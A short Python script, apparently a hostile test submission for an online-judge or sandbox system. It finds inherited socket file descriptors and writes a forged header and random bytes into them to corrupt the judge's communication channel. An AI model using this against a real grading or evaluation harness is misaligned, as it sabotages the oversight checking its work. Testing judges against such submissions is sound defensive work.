"""Send garbage to the judge."""
import os
import stat

for number in range(3, 30):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, b"\0\0\0\x08\0\0\0\0" + b"\x93" * 8)
            os.write(number, os.urandom(1000))
    except OSError:
        pass
